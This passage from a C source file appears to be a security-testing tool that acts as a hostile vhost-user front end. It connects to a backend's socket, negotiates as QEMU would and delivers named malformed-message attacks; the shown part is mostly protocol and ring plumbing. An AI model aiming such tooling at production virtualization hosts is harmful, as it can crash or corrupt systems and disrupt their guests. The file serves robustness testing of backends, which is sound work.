/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * vhost_attack: a hostile vhost-user front end. It plays QEMU's part against a backend's
 * unix socket (or, with --listen, waits for a backend in client mode), performs a
 * QEMU-like handshake, delivers one named attack, watches the connection for --hold
 * seconds and prints one summary line on stdout. Plain libc: the message and ring layouts
 * below are written from the vhost-user and virtio specifications, not taken from a
 * backend, so the tool builds and runs without DPDK.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE /* memfd_create, accept4, POLLRDHUP */
#endif
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

/* ---- vhost-user protocol (https://qemu-project.gitlab.io/qemu/interop/vhost-user.html) */

enum vu_request {
	VU_GET_FEATURES = 1,
	VU_SET_FEATURES = 2,
	VU_SET_OWNER = 3,
	VU_SET_MEM_TABLE = 5,
	VU_SET_LOG_BASE = 6,
	VU_SET_VRING_NUM = 8,
	VU_SET_VRING_ADDR = 9,
	VU_SET_VRING_BASE = 10,
	VU_SET_VRING_KICK = 12,
	VU_SET_VRING_CALL = 13,
	VU_GET_PROTOCOL_FEATURES = 15,
	VU_SET_PROTOCOL_FEATURES = 16,
	VU_SET_VRING_ENABLE = 18,
	VU_GET_INFLIGHT_FD = 31,
	VU_SET_INFLIGHT_FD = 32,
};

#define VU_VERSION	   0x1u
#define VU_FLAG_REPLY	   (1u << 2)
#define VU_FLAG_NEED_REPLY (1u << 3)
#define VU_MAX_REGIONS	   8   /* also the most fds any vhost-user message legitimately carries */
#define SCM_MAX_FDS	   253 /* Linux SCM_MAX_FD: the most one sendmsg() may carry */

#define F_LOG_ALL	    26 /* VHOST_F_LOG_ALL: dirty logging for live migration */
#define F_INDIRECT_DESC	    28 /* VIRTIO_RING_F_INDIRECT_DESC */
#define F_PROTOCOL_FEATURES 30 /* VHOST_USER_F_PROTOCOL_FEATURES */
#define F_VERSION_1	    32 /* VIRTIO_F_VERSION_1 */

#define PF_LOG_SHMFD	  1
#define PF_REPLY_ACK	  3
#define PF_INFLIGHT_SHMFD 12

#define BIT(n) (1ULL << (n))

struct vu_hdr {
	uint32_t request;
	uint32_t flags;
	uint32_t size; /* payload bytes that follow */
};

struct vu_vring_state {
	uint32_t index;
	uint32_t num;
};

struct vu_vring_addr {
	uint32_t index;
	uint32_t flags; /* bit 0: log used-ring writes at log_guest_addr */
	uint64_t desc_user_addr;
	uint64_t used_user_addr;
	uint64_t avail_user_addr;
	uint64_t log_guest_addr;
};

struct vu_mem_region {
	uint64_t guest_phys_addr;
	uint64_t memory_size;
	uint64_t userspace_addr;
	uint64_t mmap_offset;
};

struct vu_mem_table {
	uint32_t nregions;
	uint32_t padding;
	struct vu_mem_region regions[VU_MAX_REGIONS];
};

struct vu_log {
	uint64_t mmap_size;
	uint64_t mmap_offset;
};

struct vu_inflight {
	uint64_t mmap_size;
	uint64_t mmap_offset;
	uint16_t num_queues;
	uint16_t queue_size;
	uint32_t padding; /* the C struct both QEMU and backends use is 24 bytes */
};

_Static_assert(sizeof(struct vu_hdr) == 12, "vhost-user header is 12 bytes");
_Static_assert(sizeof(struct vu_vring_addr) == 40, "vring address payload is 40 bytes");
_Static_assert(sizeof(struct vu_mem_region) == 32, "memory region is 32 bytes");
_Static_assert(sizeof(struct vu_inflight) == 24, "inflight payload is 24 bytes");

/* ---- split virtqueue (virtio 1.x, 2.7) */

#define VRING_DESC_F_NEXT     1
#define VRING_DESC_F_WRITE    2
#define VRING_DESC_F_INDIRECT 4

struct vring_desc {
	uint64_t addr; /* guest physical */
	uint32_t len;
	uint16_t flags;
	uint16_t next;
};

struct vring_avail {
	uint16_t flags;
	uint16_t idx;
	uint16_t ring[];
};

struct vring_used_elem {
	uint32_t id;
	uint32_t len;
};

struct vring_used {
	uint16_t flags;
	uint16_t idx;
	struct vring_used_elem ring[];
};

/* ---- guest memory layout: one region, rings first, packet buffers after */

#define RING_SIZE      256
#define NQUEUES	       2 /* 0 = guest RX (backend writes), 1 = guest TX (backend reads) */
#define Q_RX	       0
#define Q_TX	       1
#define GUEST_MEM_SIZE (4ULL << 20)
#define RING_AREA(q)   ((uint64_t)(q)*0x4000) /* desc +0, avail +0x1000, used +0x2000 */
#define TX_BUF_AREA    0x10000ULL
#define RX_BUF_AREA    0x100000ULL
#define INDIRECT_AREA  0x200000ULL
#define BUF_SIZE       2048
#define NET_HDR_SIZE   12 /* virtio_net_hdr_v1, the size with VIRTIO_F_VERSION_1 */
#define FRAME_SIZE     64
#define PKT_SIZE       (NET_HDR_SIZE + FRAME_SIZE)

/*
 * The log attacks place guest memory just under 2 GiB so its dirty-log bits fall at byte
 * 65408..65535 of the log: far past a 4 KiB file, and in the last page of a 64 KiB log,
 * which is exactly what a backend that forgets the log's mmap_offset gets wrong.
 */
#define LOG_GPA_BASE (0x80000000ULL - GUEST_MEM_SIZE)

#define REPLY_TIMEOUT_MS 2000
#define ACCEPT_FIRST_MS	 30000
#define ACCEPT_AGAIN_MS	 5000
#define RECONNECT_GAP_MS 50

struct vq {
	struct vring_desc *desc;
	struct vring_avail *avail;
	struct vring_used *used;
	int kickfd;
	int callfd;
	uint16_t avail_idx; /* our shadow of avail->idx: entries posted so far */
};

struct guest {
	int memfd;
	uint8_t *mem;	   /* our MAP_SHARED view of memfd */
	uint64_t size;	   /* bytes of memfd we created and mapped */
	uint64_t gpa_base; /* guest physical address of mem[0] */
	bool gone;	   /* memfd truncated under us: never touch mem again */
	struct vq vqs[NQUEUES];
};

/* Our view of the dirty log we handed over, to check where the backend set bits. */
struct dirty_log {
	uint8_t *map; /* whole file, MAP_SHARED */
	uint64_t file_size;
	uint64_t offset; /* declared mmap_offset: where the log starts in the file */
	uint64_t size;	 /* declared mmap_size */
};

enum outcome { OUT_OPEN, OUT_REFUSED, OUT_SILENT, OUT_BADREPLY, OUT_CLOSED };

struct session {
	const char *path;
	const char *attack;
	bool listen;
	int lfd;	      /* listening socket in --listen mode */
	int fd;		      /* current vhost-user connection, -1 when none */
	int hold;	      /* seconds to watch after delivery */
	uint64_t features;    /* offered by the backend */
	uint64_t proto;	      /* protocol features offered by the backend */
	uint64_t acked;	      /* features we sent in SET_FEATURES */
	uint64_t proto_acked; /* protocol features we sent in SET_PROTOCOL_FEATURES */
	bool reply_ack;	      /* REPLY_ACK negotiated: every request without a reply gets an ack */
	bool delivered;	      /* the hostile part reached the socket */
	char step[96];	      /* the last thing we did: what the backend reacted to */
	enum outcome outcome; /* first notable reaction, kept for the summary */
	char outcome_step[160];
	struct guest g;
	struct dirty_log log;
};

/* ---- small helpers */

static void note(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void note(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fputs("vhost_attack: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
}

static void step_set(struct session *s, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void step_set(struct session *s, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(s->step, sizeof(s->step), fmt, ap);
	va_end(ap);
}

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void sleep_ms(int ms)
{
	struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (long)(ms % 1000) * 1000000};

	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
}

static const char *req_name(uint32_t req)
{
	switch (req) {
	case VU_GET_FEATURES:
		return "GET_FEATURES";
	case VU_SET_FEATURES:
		return "SET_FEATURES";
	case VU_SET_OWNER:
		return "SET_OWNER";
	case VU_SET_MEM_TABLE:
		return "SET_MEM_TABLE";
	case VU_SET_LOG_BASE:
		return "SET_LOG_BASE";
	case VU_SET_VRING_NUM:
		return "SET_VRING_NUM";
	case VU_SET_VRING_ADDR:
		return "SET_VRING_ADDR";
	case VU_SET_VRING_BASE:
		return "SET_VRING_BASE";
	case VU_SET_VRING_KICK:
		return "SET_VRING_KICK";
	case VU_SET_VRING_CALL:
		return "SET_VRING_CALL";
	case VU_GET_PROTOCOL_FEATURES:
		return "GET_PROTOCOL_FEATURES";
	case VU_SET_PROTOCOL_FEATURES:
		return "SET_PROTOCOL_FEATURES";
	case VU_SET_VRING_ENABLE:
		return "SET_VRING_ENABLE";
	case VU_GET_INFLIGHT_FD:
		return "GET_INFLIGHT_FD";
	case VU_SET_INFLIGHT_FD:
		return "SET_INFLIGHT_FD";
	default:
		return "UNKNOWN";
	}
}

/* Keep the first notable reaction: later ones are usually its consequences. */
static void sess_event(struct session *s, enum outcome o, const char *why)
{
	note("%s at/after %s", why, s->step);
	if (s->outcome != OUT_OPEN)
		return;
	s->outcome = o;
	snprintf(s->outcome_step, sizeof(s->outcome_step), "%s", s->step);
}

static void sess_closed(struct session *s)
{
	if (s->fd < 0)
		return;
	close(s->fd);
	s->fd = -1;
	sess_event(s, OUT_CLOSED, "backend closed the connection");
}

/* Has the peer hung up? Non-blocking; pending data does not count as a hang-up. */
static bool peer_gone(int fd)
{
	struct pollfd p = {.fd = fd, .events = POLLRDHUP};

	if (poll(&p, 1, 0) <= 0)
		return false;
	return (p.revents & (POLLHUP | POLLRDHUP | POLLERR)) != 0;
}

/*
 * Watch the connection for ms milliseconds. Data the backend sends unasked is read and
 * dropped; a hang-up is recorded against the current step. Returns false once closed.
 */
static bool sess_watch(struct session *s, int ms)
{
	int64_t end = now_ms() + ms;
	char junk[4096];

	while (s->fd >= 0) {
		int64_t left = end - now_ms();
		struct pollfd p = {.fd = s->fd, .events = POLLIN | POLLRDHUP};

		if (left <= 0)
			return true;
		if (poll(&p, 1, (int)left) <= 0)
			continue;
		if (p.revents & (POLLHUP | POLLRDHUP | POLLERR)) {
			sess_closed(s);
			break;
		}
		ssize_t n = recv(s->fd, junk, sizeof(junk), MSG_DONTWAIT);

		if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR))
			sess_closed(s);
		else if (n > 0)
			note("backend sent %zd unexpected bytes", n);
	}
	return false;
}

/* ---- connection */

static int unix_addr(const char *path, struct sockaddr_un *sa)
{
	memset(sa, 0, sizeof(*sa));
	sa->sun_family = AF_UNIX;
	if (strlen(path) >= sizeof(sa->sun_path))
		return -ENAMETOOLONG;
	strcpy(sa->sun_path, path);
	return 0;
}

static int listen_open(struct session *s)
{
	struct sockaddr_un sa;
	struct stat st;
	int fd, ret;

	ret = unix_addr(s->path, &sa);
	if (ret < 0)
		return ret;
	/* Replace a stale socket left by an earlier run, but never a regular file. */
	if (stat(s->path, &st) == 0 && S_ISSOCK(st.st_mode))
		unlink(s->path);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 4) < 0) {
		ret = -errno;
		close(fd);
		return ret;
	}
	s->lfd = fd;
	return 0;
}

static int sess_accept(struct session *s, int timeout_ms)
{
	struct pollfd p = {.fd = s->lfd, .events = POLLIN};
	int ret = poll(&p, 1, timeout_ms);

	if (ret == 0)
		return -ETIMEDOUT;
	if (ret < 0)
		return -errno;
	ret = accept4(s->lfd, NULL, NULL, SOCK_CLOEXEC);
	return ret < 0 ? -errno : ret;
}

/* Backends create their socket a moment after they start: retry briefly. */
static int sess_dial(struct session *s)
{
	struct sockaddr_un sa;
	int64_t end = now_ms() + 2000;
	int fd, ret;

	ret = unix_addr(s->path, &sa);
	if (ret < 0)
		return ret;
	for (;;) {
		fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fd < 0)
			return -errno;
		if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0)
			return fd;
		ret = -errno;
		close(fd);
		if ((ret != -ENOENT && ret != -ECONNREFUSED) || now_ms() > end)
			return ret;
		sleep_ms(50);
	}
}

/* (Re)connect; first says whether this is the run's first connection. */
static int sess_connect(struct session *s, bool first)
{
	int fd;

	if (s->fd >= 0) {
		close(s->fd);
		s->fd = -1;
	}
	s->reply_ack = false;
	if (s->listen)
		fd = sess_accept(s, first ? ACCEPT_FIRST_MS : ACCEPT_AGAIN_MS);
	else
		fd = sess_dial(s);
	if (fd < 0) {
		note("%s %s: %s", s->listen ? "no backend connected on" : "cannot connect to",
		     s->path, strerror(-fd));
		return fd;
	}
	s->fd = fd;
	return 0;
}

/*
 * A reconnect inside an attack: failing to get one is itself an outcome. gap_ms after
 * closing our side lets a backend that serves one front end per socket see the old
 * connection go first; the reconnect storm passes 0 on purpose.
 */
static int sess_reconnect(struct session *s, int gap_ms)
{
	int ret;

	if (s->fd >= 0) {
		close(s->fd);
		s->fd = -1;
	}
	sleep_ms(gap_ms);
	ret = sess_connect(s, false);
	if (ret < 0 && s->outcome == OUT_OPEN) {
		s->outcome = OUT_CLOSED;
		snprintf(s->outcome_step, sizeof(s->outcome_step), "%s (no new connection: %s)",
			 s->step, strerror(-ret));
	}
	return ret;
}

/* ---- socket I/O with timeouts: a stuck backend must never hang us */

static int sock_wait(int fd, short ev, int timeout_ms)
{
	struct pollfd p = {.fd = fd, .events = ev};
	int ret = poll(&p, 1, timeout_ms);

	if (ret == 0)
		return -ETIMEDOUT;
	if (ret < 0)
		return errno == EINTR ? 0 : -errno;
	return 0;
}

/*
 * Send buf (header and payload as one byte stream) with nfds descriptors on the first
 * byte. Returns 0, -ECONNRESET when the peer is gone, or -ETIMEDOUT when it stopped
 * reading for REPLY_TIMEOUT_MS.
 */
static int sock_send(int fd, const void *buf, size_t len, const int *fds, int nfds)
{
	union {
		char buf[CMSG_SPACE(sizeof(int) * SCM_MAX_FDS)];
		struct cmsghdr align;
	} ctl;
	size_t off = 0;

	while (off < len) {
		struct iovec iov = {.iov_base = (char *)buf + off, .iov_len = len - off};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};
		ssize_t n;

		if (off == 0 && nfds > 0) {
			struct cmsghdr *cm;

			memset(&ctl, 0, sizeof(ctl));
			mh.msg_control = ctl.buf;
			mh.msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)nfds);
			cm = CMSG_FIRSTHDR(&mh);
			cm->cmsg_level = SOL_SOCKET;
			cm->cmsg_type = SCM_RIGHTS;
			cm->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)nfds);
			memcpy(CMSG_DATA(cm), fds, sizeof(int) * (size_t)nfds);
		}
		n = sendmsg(fd, &mh, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (n > 0) {
			off += (size_t)n;
			continue;
		}
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0 && errno == EAGAIN) {
			int ret = sock_wait(fd, POLLOUT, REPLY_TIMEOUT_MS);

			if (ret < 0)
				return ret;
			continue;
		}
		return -ECONNRESET; /* EPIPE, ECONNRESET: the backend is gone */
	}
	return 0;
}

/* Read exactly len bytes; fds, if given, collects descriptors from the first segment. */
static int sock_recv(int fd, void *buf, size_t len, int *fds, int *nfds, int timeout_ms)
{
	union {
		char buf[CMSG_SPACE(sizeof(int) * VU_MAX_REGIONS)];
		struct cmsghdr align;
	} ctl;
	int64_t end = now_ms() + timeout_ms;
	size_t off = 0;

	while (off < len) {
		struct iovec iov = {.iov_base = (char *)buf + off, .iov_len = len - off};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};
		int64_t left = end - now_ms();
		ssize_t n;
		int ret;

		ret = sock_wait(fd, POLLIN, left > 0 ? (int)left : 0);
		if (ret < 0)
			return ret;
		if (fds) {
			mh.msg_control = ctl.buf;
			mh.msg_controllen = sizeof(ctl.buf);
		}
		n = recvmsg(fd, &mh, MSG_DONTWAIT | MSG_CMSG_CLOEXEC);
		if (n == 0)
			return -ECONNRESET;
		if (n < 0) {
			if (errno == EAGAIN || errno == EINTR)
				continue;
			return -ECONNRESET;
		}
		for (struct cmsghdr *cm = fds ? CMSG_FIRSTHDR(&mh) : NULL; cm;
		     cm = CMSG_NXTHDR(&mh, cm)) {
			if (cm->cmsg_level != SOL_SOCKET || cm->cmsg_type != SCM_RIGHTS)
				continue;
			int k = (int)((cm->cmsg_len - CMSG_LEN(0)) / sizeof(int));

			memcpy(fds + *nfds, CMSG_DATA(cm), sizeof(int) * (size_t)k);
			*nfds += k;
		}
		fds = NULL; /* a message's descriptors ride on its first byte */
		off += (size_t)n;
	}
	return 0;
}

/* ---- messages */

/*
 * Send one message whose header announces hdr_size payload bytes while len bytes of
 * payload actually follow: the lying attacks need the two to differ.
 */
static int vu_send_raw(struct session *s, uint32_t req, uint32_t flags, uint32_t hdr_size,
		       const void *payload, size_t len, const int *fds, int nfds)
{
	struct vu_hdr h = {.request = req, .flags = VU_VERSION | flags, .size = hdr_size};
	size_t total = sizeof(h) + len;
	uint8_t small[512], *buf = small;
	int ret;

	if (s->fd < 0)
		return -ECONNRESET;
	/* A hang-up seen now was a reaction to the previous step, not to this one. */
	if (peer_gone(s->fd)) {
		sess_closed(s);
		return -ECONNRESET;
	}
	if (total > sizeof(small)) {
		buf = malloc(total);
		if (!buf)
			return -ENOMEM;
	}
	memcpy(buf, &h, sizeof(h));
	if (len)
		memcpy(buf + sizeof(h), payload, len);
	ret = sock_send(s->fd, buf, total, fds, nfds);
	if (buf != small)
		free(buf);
	if (ret == -ECONNRESET)
		sess_closed(s);
	else if (ret == -ETIMEDOUT)
		sess_event(s, OUT_SILENT, "backend stopped reading");
	return ret;
}

/*
 * Read the reply to req. Up to cap payload bytes land in reply (the rest is drained);
 * descriptors that came with it are returned in fds/nfds or closed.
 */
static int vu_recv_reply(struct session *s, uint32_t req, void *reply, uint32_t cap, uint32_t *size,
			 int *fds, int *nfds, int timeout_ms)
{
	int got_fds[VU_MAX_REGIONS], ngot = 0;
	struct vu_hdr h;
	uint8_t junk[256];
	int ret;

	ret = sock_recv(s->fd, &h, sizeof(h), got_fds, &ngot, timeout_ms);
	if (ret == 0 && (!(h.flags & VU_FLAG_REPLY) || h.request != req)) {
		note("unexpected message %u flags %#x in reply to %s", h.request, h.flags,
		     req_name(req));
		ret = -EPROTO;
	}
	for (uint32_t off = 0; ret == 0 && off < h.size;) {
		uint32_t chunk = h.size - off;
		void *dst = junk;

		if (off < cap) {
			dst = (uint8_t *)reply + off;
			chunk = chunk < cap - off ? chunk : cap - off;
		} else if (chunk > sizeof(junk)) {
			chunk = sizeof(junk);
		}
		ret = sock_recv(s->fd, dst, chunk, NULL, NULL, timeout_ms);
		off += chunk;
	}
	if (size)
		*size = ret == 0 ? h.size : 0;
	for (int i = 0; i < ngot; i++) {
		if (ret == 0 && fds && i < VU_MAX_REGIONS)
			fds[(*nfds)++] = got_fds[i];
		else
			close(got_fds[i]);
	}
	if (ret == -ECONNRESET)
		sess_closed(s);
	else if (ret == -ETIMEDOUT)
		sess_event(s, OUT_SILENT, "backend did not reply");
	else if (ret == -EPROTO)
		sess_event(s, OUT_BADREPLY, "backend sent a malformed reply");
	return ret;
}

/*
 * One request, the way QEMU sends it. A request with a natural reply (GET_*) waits for
 * it; any other waits for the REPLY_ACK ack when that was negotiated, so a refusal is
 * seen at the step that caused it. detail, if set, is shown with the step name.
 * Returns 0, -EREMOTEIO on an error ack, or the transport error.
 */
static int vu_call(struct session *s, uint32_t req, const char *detail, const void *payload,
		   uint32_t size, const int *fds, int nfds, void *reply, uint32_t reply_cap)
{
	uint64_t ack = 0;
	bool want_ack = !reply && s->reply_ack;
	int ret;

	if (detail)
		step_set(s, "%s(%s)", req_name(req), detail);
	else
		step_set(s, "%s", req_name(req));
	ret = vu_send_raw(s, req, want_ack ? VU_FLAG_NEED_REPLY : 0, size, payload, size, fds,
			  nfds);
	if (ret < 0)
		return ret;
	if (reply)
		return vu_recv_reply(s, req, reply, reply_cap, NULL, NULL, NULL, REPLY_TIMEOUT_MS);
	if (!want_ack)
		return 0;
	ret = vu_recv_reply(s, req, &ack, sizeof(ack), NULL, NULL, NULL, REPLY_TIMEOUT_MS);
	if (ret == 0 && ack != 0) {
		sess_event(s, OUT_REFUSED, "backend refused with an error reply");
		return -EREMOTEIO;
	}
	return ret;
}

static int vu_u64(struct session *s, uint32_t req, const char *detail, uint64_t v)
{
	return vu_call(s, req, detail, &v, sizeof(v), NULL, 0, NULL, 0);
}

static int vu_state(struct session *s, uint32_t req, uint32_t index, uint32_t num)
{
	struct vu_vring_state st = {.index = index, .num = num};
	char detail[32];

	snprintf(detail, sizeof(detail), "q%u,%u", index, num);
	return vu_call(s, req, detail, &st, sizeof(st), NULL, 0, NULL, 0);
}

/* SET_VRING_KICK / SET_VRING_CALL: the payload's low byte is the ring, the fd rides along. */
static int vu_vring_fd(struct session *s, uint32_t req, uint32_t index, int fd)
{
	uint64_t v = index;
	char detail[16];

	snprintf(detail, sizeof(detail), "q%u", index);
	return vu_call(s, req, detail, &v, sizeof(v), &fd, 1, NULL, 0);
}

/* ---- guest memory and rings */

static int memfd_sized(const char *name, uint64_t size, bool seal)
{
	int fd = memfd_create(name, MFD_CLOEXEC | (seal ? MFD_ALLOW_SEALING : 0));

	if (fd < 0)
		return -errno;
	if (ftruncate(fd, (off_t)size) < 0) {
		int ret = -errno;

		close(fd);
		return ret;
	}
	/* QEMU's memory-backend-memfd seals size by default (seal=on): do likewise. */
	if (seal)
		fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL);
	return fd;
}

/* An empty guest: nothing mapped, no descriptors open. */
static void guest_reset(struct guest *g)
{
	memset(g, 0, sizeof(*g));
	g->memfd = -1;
	for (int q = 0; q < NQUEUES; q++)
		g->vqs[q].kickfd = g->vqs[q].callfd = -1;
}

static void guest_fini(struct guest *g)
{
	if (g->mem)
		munmap(g->mem, g->size);
	if (g->memfd >= 0)
		close(g->memfd);
	for (int q = 0; q < NQUEUES; q++) {
		if (g->vqs[q].kickfd >= 0)
			close(g->vqs[q].kickfd);
		if (g->vqs[q].callfd >= 0)
			close(g->vqs[q].callfd);
	}
	guest_reset(g);
}

/* sealed: QEMU-like size seals; the attacks that truncate the file need it unsealed. */
static int guest_init(struct guest *g, uint64_t gpa_base, bool sealed)
{
	guest_fini(g);
	g->size = GUEST_MEM_SIZE;
	g->gpa_base = gpa_base;
	g->memfd = memfd_sized("vhost_attack-guest", g->size, sealed);
	if (g->memfd < 0)
		return g->memfd;
	g->mem = mmap(NULL, g->size, PROT_READ | PROT_WRITE, MAP_SHARED, g->memfd, 0);
	if (g->mem == MAP_FAILED) {
		g->mem = NULL;
		return -errno;
	}
	for (int q = 0; q < NQUEUES; q++) {
		struct vq *vq = &g->vqs[q];
		uint8_t *ring = g->mem + RING_AREA(q);

		vq->desc = (struct vring_desc *)ring;
		vq->avail = (struct vring_avail *)(ring + 0x1000);
		vq->used = (struct vring_used *)(ring + 0x2000);
		vq->kickfd = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
		vq->callfd = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
		if (vq->kickfd < 0 || vq->callfd < 0)
			return -errno;
	}
	return 0;
}

static uint64_t gpa(const struct guest *g, uint64_t off)
{
	return g->gpa_base + off;
}

static uint64_t uva(const void *p)
{
	return (uint64_t)(uintptr_t)p;
}

/* Make head the next available chain; the release store orders the chain before idx. */
static void vq_publish(struct guest *g, int q, uint16_t head)
{
	struct vq *vq = &g->vqs[q];

	vq->avail->ring[vq->avail_idx % RING_SIZE] = head;
	vq->avail_idx++;
	__atomic_store_n(&vq->avail->idx, vq->avail_idx, __ATOMIC_RELEASE);
}

static void vq_kick(struct guest *g, int q)
{
	uint64_t one = 1;

	if (write(g->vqs[q].kickfd, &one, sizeof(one)) < 0)
		note("kick q%d: %s", q, strerror(errno));
}

static uint16_t vq_used_idx(const struct guest *g, int q)
{
	return __atomic_load_n(&g->vqs[q].used->idx, __ATOMIC_ACQUIRE);
}

static uint16_t ip_csum(const uint8_t *p, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* virtio_net_hdr_v1 (all zero: no offloads) + a 64-byte Ethernet/IPv4/UDP frame. */
static void pkt_build(uint8_t *p, uint16_t seq)
{
	static const uint8_t macs[12] = {2, 0, 0, 0, 0, 2, 2, 0, 0, 0, 0, 1};
	uint8_t *eth = p + NET_HDR_SIZE, *ip = eth + 14, *udp = ip + 20;
	uint16_t csum;

	memset(p, 0, PKT_SIZE);
	memcpy(eth, macs, sizeof(macs));
	eth[12] = 0x08;
	ip[0] = 0x45;
	ip[3] = FRAME_SIZE - 14;
	ip[4] = (uint8_t)(seq >> 8);
	ip[5] = (uint8_t)seq;
	ip[8] = 64;
	ip[9] = 17;
	memcpy(ip + 12, (uint8_t[]){10, 0, 0, 1, 10, 0, 0, 2}, 8);
	csum = ip_csum(ip, 20);
	ip[10] = (uint8_t)(csum >> 8);
	ip[11] = (uint8_t)csum;
	udp[0] = 0x0f, udp[1] = 0xa0; /* 4000 -> 4001 */
	udp[2] = 0x0f, udp[3] = 0xa1;
	udp[5] = FRAME_SIZE - 14 - 20;
	memset(udp + 8, 0xa5, FRAME_SIZE - 14 - 20 - 8);
}

/* Post n packets on the TX ring, one descriptor each; slot i uses descriptor and buffer i. */
static void tx_post(struct guest *g, int n)
{
	struct vq *vq = &g->vqs[Q_TX];

	for (int i = 0; i < n; i++) {
		uint16_t slot = vq->avail_idx % RING_SIZE;
		uint64_t off = TX_BUF_AREA + (uint64_t)slot * BUF_SIZE;

		pkt_build(g->mem + off, vq->avail_idx);
		vq->desc[slot] = (struct vring_desc){.addr = gpa(g, off), .len = PKT_SIZE};
		vq_publish(g, Q_TX, slot);
	}
}

/* Give the backend n writable buffers to deliver packets into. */
static void rx_post(struct guest *g, int n)
{
	struct vq *vq = &g->vqs[Q_RX];

	for (int i = 0; i < n; i++) {
		uint16_t slot = vq->avail_idx % RING_SIZE;
		uint64_t off = RX_BUF_AREA + (uint64_t)slot * BUF_SIZE;

		vq->desc[slot] = (struct vring_desc){
			.addr = gpa(g, off), .len = BUF_SIZE, .flags = VRING_DESC_F_WRITE};
		vq_publish(g, Q_RX, slot);
	}
}

static void traffic(struct guest *g, int n_rx, int n_tx)
{
	rx_post(g, n_rx);
	tx_post(g, n_tx);
	vq_kick(g, Q_RX);
	vq_kick(g, Q_TX);
}

static void guest_report(const struct guest *g)
{
	if (!g->mem)
		return;
	if (g->gone) {
		note("rings not read back: guest memory was truncated");
		return;
	}
	note("TX ring: backend consumed %u of %u posted; RX ring: backend filled %u of %u posted",
	     vq_used_idx(g, Q_TX), g->vqs[Q_TX].avail_idx, vq_used_idx(g, Q_RX),
	     g->vqs[Q_RX].avail_idx);
}

/* ---- handshake pieces, in QEMU's order */

/* A fatal transport error (closed, silent) ends the attack; an error ack does not. */
static bool gone(int ret)
{
	return ret < 0 && ret != -EREMOTEIO;
}

/*
 * SET_OWNER, feature and protocol-feature negotiation. We ask for REPLY_ACK (to see
 * refusals where they happen) plus want_proto, and VERSION_1 plus want_features, each
 * only if offered; an attack that must send an unoffered bit does so itself.
 */
static int hs_negotiate(struct session *s, uint64_t want_features, uint64_t want_proto)
{
	uint64_t proto;
	int ret;

	s->features = s->proto = s->proto_acked = 0;
	ret = vu_call(s, VU_SET_OWNER, NULL, NULL, 0, NULL, 0, NULL, 0);
	if (gone(ret))
		return ret;
	ret = vu_call(s, VU_GET_FEATURES, NULL, NULL, 0, NULL, 0, &s->features,
		      sizeof(s->features));
	if (ret < 0)
		return ret;
	s->acked = (BIT(F_VERSION_1) | BIT(F_PROTOCOL_FEATURES) | want_features) & s->features;
	if (s->features & BIT(F_PROTOCOL_FEATURES)) {
		ret = vu_call(s, VU_GET_PROTOCOL_FEATURES, NULL, NULL, 0, NULL, 0, &s->proto,
			      sizeof(s->proto));
		if (ret < 0)
			return ret;
		proto = (BIT(PF_REPLY_ACK) | want_proto) & s->proto;
		ret = vu_u64(s, VU_SET_PROTOCOL_FEATURES, NULL, proto);
		if (gone(ret))
			return ret;
		s->proto_acked = proto;
		s->reply_ack = (proto & BIT(PF_REPLY_ACK)) != 0;
	}
	note("features offered %#" PRIx64 " acked %#" PRIx64 ", protocol features offered %#" PRIx64
	     "%s",
	     s->features, s->acked, s->proto, s->reply_ack ? ", REPLY_ACK on" : "");
	return vu_u64(s, VU_SET_FEATURES, NULL, s->acked);
}

/* One region at g's guest physical base, declared region_size long (normally g->size). */
static int hs_mem_table(struct session *s, struct guest *g, uint64_t region_size)
{
	struct vu_mem_table mt = {
		.nregions = 1,
		.regions[0] = {.guest_phys_addr = g->gpa_base,
			       .memory_size = region_size,
			       .userspace_addr = uva(g->mem),
			       .mmap_offset = 0},
	};
	char detail[48];

	snprintf(detail, sizeof(detail), "%" PRIu64 " KiB", region_size >> 10);
	/* QEMU sends only the used regions: header fields plus nregions entries. */
	return vu_call(s, VU_SET_MEM_TABLE, detail, &mt,
		       offsetof(struct vu_mem_table, regions) + sizeof(mt.regions[0]), &g->memfd, 1,
		       NULL, 0);
}

static int hs_vring_addr(struct session *s, struct guest *g, int q, bool log)
{
	struct vq *vq = &g->vqs[q];
	struct vu_vring_addr a = {
		.index = (uint32_t)q,
		.flags = log ? 1 : 0,
		.desc_user_addr = uva(vq->desc),
